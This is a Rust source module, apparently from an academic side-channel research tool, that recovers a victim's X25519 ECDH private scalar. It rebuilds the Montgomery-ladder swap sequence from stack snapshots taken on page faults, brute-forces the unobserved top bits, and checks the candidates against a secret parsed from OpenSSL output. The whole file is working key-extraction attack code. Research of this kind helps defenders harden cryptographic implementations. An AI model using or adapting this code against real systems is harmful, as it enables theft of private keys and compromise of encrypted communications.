// Copyright (C) 2025 FZI Forschungszentrum Informatik
// SPDX-License-Identifier: Apache-2.0
//! ECDH scalar recovery
//!
//! The victim multiplies with its private X25519 scalar using a Montgomery
//! ladder. Each ladder iteration conditionally swaps two working points
//! depending on the exclusive or of two adjacent scalar bits. Whether a swap
//! happened leaks through a 16 byte block of the stack buffer.
//!
//! [`recover`] recovers the swap sequence for every block changing across a
//! swap ([`swaps`]), brute forces the unobserved top swaps and converts each
//! sequence into clamped scalar bits. If the victim's secret is known, e.g.
//! from [`parse_openssl_secret`], candidates are compared against it.
//!
//! All scalar bits are stored one per byte, least significant bit first.

pub mod error;
pub mod swaps;

#[cfg(test)]
mod tests;

use core::fmt;
use std::collections::BTreeSet;
use std::io;

use crate::config::{EcdhAttack, StreamLayout};
use crate::event::FaultEvent;
use crate::scanner::Candidates;

pub use error::{Error, SecretError};
pub use swaps::Streams;

/// Granularity of the swap block search
pub const BLOCK: usize = 16;

/// Prefix of the line carrying the victim's secret
pub const SECRET_MARKER: &str = "secretFromOpenSSL";

/// Maximum number of unobserved top swaps to brute force
pub const MAX_UNKNOWN_BITS: usize = 8;

/// One of the two snapshot streams
#[derive(Copy, Clone, Debug, PartialEq, Eq)]
pub enum Stream {
    /// Snapshots on faults on the ladder loop page
    Base,
    /// Snapshots on faults on the field arithmetic page
    Second,
}

impl fmt::Display for Stream {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Base => write!(f, "base"),
            Self::Second => write!(f, "second"),
        }
    }
}

/// Options for [`recover`]
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Options {
    /// Only consider this offset within the monitored page
    pub specific_offset: Option<usize>,
    /// Known scalar bits, one more than the ladder has iterations
    pub ground_truth: Option<Vec<u8>>,
}

/// A clamped scalar candidate
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Candidate {
    /// Offset of the block the swaps were recovered from
    pub offset: usize,
    /// Brute forced values of the unobserved top swaps, lowest bit first
    pub top_swaps: usize,
    /// Scalar bits, least significant first
    pub scalar: Vec<u8>,
    /// Hamming distance to the ground truth, if known
    pub distance: Option<usize>,
}

impl Candidate {
    /// Determine whether this candidate equals the ground truth
    pub fn matches(&self) -> bool {
        self.distance == Some(0)
    }

    /// Retrieve the scalar as little endian bytes
    pub fn to_bytes(&self) -> Vec<u8> {
        pack_bits(&self.scalar)
    }
}

/// Outcome of a recovery
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Report {
    /// Recovered swap sequences per offset
    pub swaps: Candidates<Vec<u8>>,
    /// Scalar candidates, ordered by offset
    pub scalars: Vec<Candidate>,
}

impl Report {
    /// Iterate over all candidates equal to the ground truth
    pub fn matching(&self) -> impl Iterator<Item = &Candidate> + '_ {
        self.scalars.iter().filter(|c| c.matches())
    }

    /// Retrieve the first candidate equal to the ground truth
    ///
    /// Fails with [`Error::NoCandidateMatched`] if there is none.
    pub fn matched(&self) -> Result<&Candidate, Error> {
        self.matching()
            .next()
            .ok_or(Error::NoCandidateMatched(self.swaps.len()))
    }
}

/// Read the victim's secret from its reply
///
/// The secret is expected on a line `secretFromOpenSSL AA:BB:...`. If there
/// are multiple, the last one wins. Returns the secret's bits.
pub fn parse_openssl_secret(reader: impl io::BufRead) -> Result<Vec<u8>, SecretError> {
    let mut secret = None;
    for (i, line) in reader.lines().enumerate() {
        let line = line?;
        if !line.starts_with(SECRET_MARKER) {
            continue;
        }
        let tokens: Vec<_> = line.trim_end().split(' ').collect();
        let [_, value] = tokens.as_slice() else {
            return Err(SecretError::Tokens(i + 1, tokens.len()));
        };
        secret = Some(hex::decode(value.replace(':', ""))?);
    }
    secret.map(|s| unpack_bits(&s)).ok_or(SecretError::NotFound)
}

/// Expand bytes into bits, least significant first
pub fn unpack_bits(bytes: &[u8]) -> Vec<u8> {
    bytes
        .iter()
        .flat_map(|b| (0..8).map(move |i| (b >> i) & 1))
        .collect()
}

/// Pack bits, least significant first, into bytes
pub fn pack_bits(bits: &[u8]) -> Vec<u8> {
    bits.chunks(8)
        .map(|c| c.iter().rev().fold(0, |b, bit| (b << 1) | (bit & 1)))
        .collect()
}

/// Count the differing bits, including those only one side has
pub fn hamming(a: &[u8], b: &[u8]) -> usize {
    let differing = a.iter().zip(b).filter(|(x, y)| x != y).count();
    differing + a.len().abs_diff(b.len())
}

/// Recover the victim's scalar from a captured trace
///
/// Without a ground truth every candidate is reported. Use
/// [`Report::matched`] to single out the correct one.
pub fn recover(
    attack: &EcdhAttack,
    events: &[FaultEvent],
    layout: &StreamLayout,
    options: &Options,
) -> Result<Report, Error> {
    if layout.unknown_high_bits > MAX_UNKNOWN_BITS || layout.unknown_high_bits > layout.iterations
    {
        return Err(Error::InvalidLayout(*layout));
    }
    let truth = match options.ground_truth.as_ref() {
        Some(truth) if truth.len() != layout.iterations + 1 => {
            return Err(Error::GroundTruthLength(truth.len(), layout.iterations + 1));
        }
        Some(truth) => {
            let mut truth = truth.clone();
            swaps::clamp(&mut truth);
            Some(truth)
        }
        None => None,
    };

    let streams = Streams::new(attack, events);
    log::info!(
        "{} base and {} second stream events",
        streams.base.len(),
        streams.second.len()
    );

    let mut offsets = swaps::candidate_offsets(&streams, layout)?;
    log::debug!("Offsets with change: {offsets:03x?}");
    if let Some(offset) = options.specific_offset {
        if !offsets.contains(&offset) {
            return Err(Error::NoChangeAtOffset(offset));
        }
        log::info!("Restricting search to offset {offset:#05x}");
        offsets = BTreeSet::from([offset]);
    }

    let mut report = Report::default();
    let observed = layout.iterations - layout.unknown_high_bits;
    for offset in offsets {
        let mut sequence = swaps::recover_swaps(offset, &streams, layout)?;
        log::debug!("Offset {offset:#05x}: swaps {sequence:?}");
        for top_swaps in 0..(1usize << layout.unknown_high_bits) {
            for (i, swap) in sequence[observed..].iter_mut().enumerate() {
                *swap = ((top_swaps >> i) & 1) as u8;
            }
            let mut scalar = swaps::scalar_from_swaps(&sequence);
            swaps::clamp(&mut scalar);
            let distance = truth.as_ref().map(|t| hamming(&scalar, t));
            if let Some(distance) = distance {
                log::debug!("Offset {offset:#05x}, top swaps {top_swaps:b}: distance {distance}");
            }
            report.scalars.push(Candidate {
                offset,
                top_swaps,
                scalar,
                distance,
            });
        }
        sequence[observed..].fill(0);
        report.swaps.insert(offset, sequence);
    }

    let matching = report.matching().count();
    if truth.is_some() {
        log::info!("{matching} of {} candidates match", report.scalars.len());
    } else {
        log::info!("{} candidates", report.scalars.len());
    }
    Ok(report)
}
